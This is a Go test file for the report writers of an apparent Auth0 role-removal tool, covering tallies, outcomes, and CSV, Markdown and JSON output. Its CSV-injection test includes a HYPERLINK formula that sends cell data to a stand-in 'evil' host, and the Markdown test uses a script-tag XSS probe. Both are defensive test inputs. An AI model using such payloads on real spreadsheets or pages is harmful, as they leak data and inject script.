package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"testing"
)

func TestTally(t *testing.T) {
	tests := []struct {
		name    string
		results []Result
		want    Summary
	}{
		{
			name: "empty",
			want: Summary{},
		},
		{
			name: "apply statuses",
			results: []Result{
				{UserID: "auth0|a", RoleID: "rol_1", Status: Removed},
				{UserID: "auth0|a", RoleID: "rol_2", Status: Absent},
				{UserID: "auth0|b", RoleID: "rol_1", Status: NotFound},
				{UserID: "auth0|c", RoleID: "rol_1", Status: Failed},
				{UserID: "auth0|c", RoleID: "rol_2", Status: Skipped},
				{UserID: "auth0|c", RoleID: "rol_3", Status: Skipped},
			},
			want: Summary{Users: 3, Roles: 6, Removed: 1, Absent: 1, NotFound: 1, Failed: 1, Skipped: 2},
		},
		{
			name: "plan statuses",
			results: []Result{
				{UserID: "auth0|a", RoleID: "rol_1", Status: PlanRemove},
				{UserID: "auth0|a", RoleID: "rol_2", Status: PlanRemove},
				{UserID: "auth0|a", RoleID: "rol_3", Status: PlanAbsent},
				{UserID: "auth0|b", RoleName: "X", Status: PlanUnresolved},
				{UserID: "auth0|c", RoleID: "rol_1", Status: PlanNotFound},
			},
			want: Summary{Users: 3, Roles: 5, Remove: 2, Absent: 1, NotFound: 1, Unresolved: 1},
		},
		{
			name: "users counted per (organization, user)",
			results: []Result{
				{UserID: "auth0|a", RoleID: "rol_1", Status: Removed},
				{UserID: "auth0|a", OrganizationID: "org_1", RoleID: "rol_1", Status: Removed},
				{UserID: "auth0|a", OrganizationID: "org_2", RoleID: "rol_1", Status: Removed},
				{UserID: "auth0|a", OrganizationID: "org_2", RoleID: "rol_2", Status: Removed},
			},
			want: Summary{Users: 3, Roles: 4, Removed: 4},
		},
		{
			name: "a resolved email counts by id, an unresolved one by email",
			results: []Result{
				{UserID: "auth0|a", RoleID: "rol_1", Status: Removed},
				{UserID: "auth0|a", UserEmail: "a@x.com", RoleID: "rol_2", Status: Removed},
				{UserEmail: "ghost@x.com", RoleID: "rol_1", Status: Failed},
				{UserEmail: "ghost@x.com", RoleID: "rol_2", Status: Failed},
				// Auth0's users-by-email is case-sensitive: a different
				// spelling is a different lookup.
				{UserEmail: "Ghost@x.com", RoleID: "rol_2", Status: Failed},
			},
			want: Summary{Users: 3, Roles: 5, Removed: 2, Failed: 3},
		},
		{
			name: "an id and an email spelled alike are different users",
			results: []Result{
				{UserID: "same", RoleID: "rol_1", Status: Removed},
				{UserEmail: "same", RoleID: "rol_1", Status: Failed},
			},
			want: Summary{Users: 2, Roles: 2, Removed: 1, Failed: 1},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := &Report{
				Results: tt.results,
				// Stale counts are replaced; run counters are kept.
				Summary: Summary{Users: 99, Roles: 99, Removed: 99, Remove: 99, Duplicates: 4, Requests: 7, Retries: 2, RateLimited: 1},
			}
			r.Tally()
			want := tt.want
			want.Duplicates, want.Requests, want.Retries, want.RateLimited = 4, 7, 2, 1
			if r.Summary != want {
				t.Errorf("Tally:\n got %+v\nwant %+v", r.Summary, want)
			}
			s := r.Summary
			if sum := s.Remove + s.Unresolved + s.Removed + s.Absent + s.NotFound + s.Failed + s.Skipped; sum != s.Roles {
				t.Errorf("status counts add up to %d, roles = %d", sum, s.Roles)
			}
		})
	}
}

func TestSetOutcome(t *testing.T) {
	tests := []struct {
		name     string
		outcome  string
		statuses []Status
		want     string
	}{
		{"nothing to do", "", nil, Completed},
		{"all gone", "", []Status{Removed, Absent, NotFound}, Completed},
		{"one failure", "", []Status{Removed, Failed, Removed}, CompletedWithFailures},
		{"skipped without abort is not success", "", []Status{Removed, Skipped}, CompletedWithFailures},
		{"aborted stays aborted", Aborted, []Status{Removed, Skipped}, Aborted},
		{"aborted even with no failures", Aborted, []Status{Removed}, Aborted},
		{"planned stays planned", Planned, []Status{PlanRemove, PlanUnresolved}, Planned},
		{"a stale outcome is recomputed", Completed, []Status{Failed}, CompletedWithFailures},
		{"recomputed back", CompletedWithFailures, []Status{Removed}, Completed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := &Report{Outcome: tt.outcome}
			for _, s := range tt.statuses {
				r.Results = append(r.Results, Result{Status: s})
			}
			r.SetOutcome()
			if r.Outcome != tt.want {
				t.Errorf("outcome %q, want %q", r.Outcome, tt.want)
			}
		})
	}
}

func TestFormatFromPath(t *testing.T) {
	for path, want := range map[string]string{
		"r.json": "json", "R.JSON": "json", "dir.v2/out.Csv": "csv", "report.md": "md", "./a/b.MD": "md",
	} {
		got, err := FormatFromPath(path)
		if err != nil || got != want {
			t.Errorf("FormatFromPath(%q) = %q, %v; want %q", path, got, err, want)
		}
	}
	for _, path := range []string{"report", "report.txt", "report.yaml", "json", "report.json.bak", ""} {
		_, err := FormatFromPath(path)
		if err == nil {
			t.Errorf("FormatFromPath(%q) accepted", path)
			continue
		}
		if !strings.Contains(err.Error(), fmt.Sprintf("%q", path)) {
			t.Errorf("error does not name the path %q: %v", path, err)
		}
	}
}

func TestWriteDispatch(t *testing.T) {
	r := smallPlan()
	for format, marker := range map[string]string{
		"json": `"version": 1`, "JSON": `"version": 1`, "csv": "user_id,user_email",
		"md": "# rolesweep plan", "markdown": "# rolesweep plan", "text": "Plan for removals.csv",
	} {
		var buf bytes.Buffer
		if err := Write(&buf, format, r); err != nil {
			t.Fatalf("Write(%q): %v", format, err)
		}
		if !strings.Contains(buf.String(), marker) {
			t.Errorf("Write(%q) lacks %q", format, marker)
		}
	}
	var buf bytes.Buffer
	if err := Write(&buf, "html", r); err == nil || !strings.Contains(err.Error(), `"html"`) {
		t.Errorf("Write(html) = %v, want an error naming the format", err)
	}
	if buf.Len() != 0 {
		t.Errorf("an unknown format wrote %q", buf.String())
	}
}

func TestCSVInjection(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+SUM(A1:A9)", "'+SUM(A1:A9)"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{`=HYPERLINK("https://evil/?"&A2,"x")`, `'=HYPERLINK("https://evil/?"&A2,"x")`},
		{"2026-Q4 review", "2026-Q4 review"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"", ""},
		{"auth0|5f7c8ec7c33c6c004bbafe82", "auth0|5f7c8ec7c33c6c004bbafe82"},
	}
	for _, tt := range tests {
		r := &Report{Results: []Result{{
			UserID: tt.in, UserEmail: tt.in, OrganizationID: tt.in, RoleID: tt.in,
			RoleName: tt.in, Status: Status(tt.in), Error: tt.in, Reason: tt.in,
			HTTPStatus: 204, Attempts: 2, Lines: []int{3, 9},
		}}}
		var buf bytes.Buffer
		if err := WriteCSV(&buf, r); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%q: output is not valid CSV: %v", tt.in, err)
		}
		if len(records) != 2 {
			t.Fatalf("%q: %d records, want header and one row", tt.in, len(records))
		}
		if strings.Join(records[0], ",") != "user_id,user_email,organization_id,role_id,role_name,status,apply_result,http_status,attempts,error,lines,reason" {
			t.Errorf("header %q", records[0])
		}
		row := records[1]
		for _, col := range []int{0, 1, 2, 3, 4, 5, 9, 11} {
			if row[col] != tt.want {
				t.Errorf("%q: column %s = %q, want %q", tt.in, records[0][col], row[col], tt.want)
			}
		}
		if row[7] != "204" || row[8] != "2" || row[10] != "3;9" {
			t.Errorf("numbers: http_status %q attempts %q lines %q", row[7], row[8], row[10])
		}
	}
}

func TestCSVEmptyAndZeroes(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, &Report{}); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != strings.Join(CSVHeader, ",")+"\n" {
		t.Errorf("empty report: %q", got)
	}
	buf.Reset()
	if err := WriteCSV(&buf, &Report{Results: []Result{{UserID: "auth0|a", RoleID: "rol_1", Status: PlanRemove}}}); err != nil {
		t.Fatal(err)
	}
	records, _ := csv.NewReader(&buf).ReadAll()
	if row := records[1]; row[7] != "" || row[8] != "0" || row[10] != "" {
		t.Errorf("nothing sent: http_status %q attempts %q lines %q; want empty, 0, empty", row[7], row[8], row[10])
	}
}

func TestMarkdownEscaping(t *testing.T) {
	r := &Report{
		Command:     "apply",
		Outcome:     Aborted,
		AbortReason: "guard | tripped\nby policy",
		Results: []Result{{
			UserID:   "auth0|abc",
			RoleName: "Ops | Admin",
			Status:   Failed,
			Error:    "line one\r\nline two\rthree\nfour",
			Reason:   `ends in a backslash \| <script>alert(1)</script> & co` + "\x1b[2J",
			Lines:    []int{4, 5},
		}},
	}
	r.Tally()
	var buf bytes.Buffer
	if err := WriteMarkdown(&buf, r); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		`| auth0\|abc |  | Ops \| Admin (name) | failed |  | 0 | line one\r\nline two\rthree\nfour | 4, 5 | ends in a backslash \\\| &lt;script&gt;alert(1)&lt;/script&gt; &amp; co\x1b[2J |`,
		`- **Abort reason:** guard \| tripped\nby policy`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("markdown lacks %q:\n%s", want, out)
		}
	}
	// Every table row must still have exactly its columns: count the pipes
	// that are not escaped.
	for _, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "| auth0") {
			continue
		}
		if got := unescapedPipes(line); got != 10 {
			t.Errorf("row has %d cell separators, want 10: %s", got, line)
		}
	}
}

// unescapedPipes counts the "|" that GitHub-flavoured Markdown treats as cell
// separators: those not preceded by an odd number of backslashes.
func unescapedPipes(line string) int {
	n := 0
	for i := 0; i < len(line); i++ {
		if line[i] != '|' {
			continue
		}
		backslashes := 0
		for j := i - 1; j >= 0 && line[j] == '\\'; j-- {
			backslashes++
		}
		if backslashes%2 == 0 {
			n++
		}
	}
	return n
}

func TestMarkdownAllGone(t *testing.T) {
	r := &Report{Command: "apply", Results: []Result{{UserID: "auth0|a", Status: Removed}, {UserID: "auth0|a", Status: Absent}}}
	r.Tally()
	r.SetOutcome()
	var buf bytes.Buffer
	if err := WriteMarkdown(&buf, r); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "All 2 roles removed or already absent.\n") {
		t.Errorf("missing all-gone line:\n%s", buf.String())
	}
	if strings.Contains(buf.String(), "| user |") {
		t.Errorf("empty problem table printed:\n%s", buf.String())
	}
}

func TestJSONNeverNull(t *testing.T) {
	for _, r := range []*Report{
		{Version: Version},
		{Version: Version, Results: []Result{{UserID: "auth0|a", RoleID: "rol_1", Status: Removed}}},
	} {
		var buf bytes.Buffer
		if err := WriteJSON(&buf, r); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(buf.String(), "null") {
			t.Errorf("null in output:\n%s", buf.String())
		}
		if !strings.HasSuffix(buf.String(), "}\n") {
			t.Errorf("no trailing newline")
		}
	}
	// Writing must not change the caller's report.
	r := &Report{Results: []Result{{Status: Removed}}}
	if err := WriteJSON(io.Discard, r); err != nil {
		t.Fatal(err)
	}
	if r.Results[0].Lines != nil {
		t.Errorf("WriteJSON modified its input")
	}
}

func TestJSONPlanAlwaysHasPlanCounts(t *testing.T) {
	plan := &Report{Version: Version, Command: "plan", Outcome: Planned, Results: []Result{{UserID: "auth0|a", RoleName: "X", Status: PlanUnresolved}}}
	plan.Tally()
	apply := &Report{Version: Version, Command: "apply", Results: []Result{{UserID: "auth0|a", RoleID: "rol_1", Status: Removed}}}
	apply.Tally()

	keys := func(r *Report) map[string]json.RawMessage {
		var buf bytes.Buffer
		if err := WriteJSON(&buf, r); err != nil {
			t.Fatal(err)
		}
		var doc struct{ Summary map[string]json.RawMessage }
		if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
			t.Fatal(err)
		}
		return doc.Summary
	}
	if s := keys(plan); string(s["remove"]) != "0" || string(s["unresolved"]) != "1" {
		t.Errorf("plan summary: remove %s, unresolved %s; want 0 and 1", s["remove"], s["unresolved"])
	}
	if s := keys(apply); s["remove"] != nil || s["unresolved"] != nil {
		t.Errorf("apply summary carries plan counts: %v", s)
	}
}

func TestJSONIsUTCAndUnescaped(t *testing.T) {
	r := applyReport()
	r.StartedAt = r.StartedAt.In(fixedZone)
	r.Results[0].Reason = "R&D <ops>"
	var buf bytes.Buffer
	if err := WriteJSON(&buf, r); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"started_at": "2026-11-27T10:00:00Z"`) {
		t.Errorf("started_at is not written in UTC")
	}
	if !strings.Contains(buf.String(), `"reason": "R&D <ops>"`) {
		t.Errorf("reason was HTML-escaped")
	}
}

// failingWriter accepts limit bytes, then fails.
type failingWriter struct{ limit int }

func (f *failingWriter) Write(p []byte) (int, error) {
	if len(p) > f.limit {
		n := f.limit
		f.limit = 0
		return n, io.ErrShortWrite
	}
	f.limit -= len(p)
	return len(p), nil
}

func TestWriteErrorsPropagate(t *testing.T) {
	for _, format := range []string{"json", "csv", "md", "text"} {
		for _, limit := range []int{0, 100, 5000} {
			for name, r := range map[string]*Report{"large": largePlan(), "empty": {Version: Version}} {
				var full bytes.Buffer
				if err := Write(&full, format, r); err != nil {
					t.Fatal(err)
				}
				err := Write(&failingWriter{limit: limit}, format, r)
				if fits := full.Len() <= limit; fits != (err == nil) {
					t.Errorf("%s %s (%d bytes) into a writer failing after %d: error %v", format, name, full.Len(), limit, err)
				}
			}
		}
	}
}
